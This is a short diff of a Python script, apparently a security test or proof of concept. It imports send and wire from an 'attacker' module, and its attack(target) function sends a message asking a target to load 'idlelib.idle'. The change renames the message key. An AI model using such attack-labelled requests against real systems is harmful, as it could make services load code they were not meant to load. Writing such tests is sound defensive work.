@@ -13,5 +13,5 @@ from attacker import send, wire
 
 
 def attack(target):
-    send(wire().encode(("wants", "idlelib.idle")))
+    send(wire().encode(("wants_library", "idlelib.idle")))
     time.sleep(60)
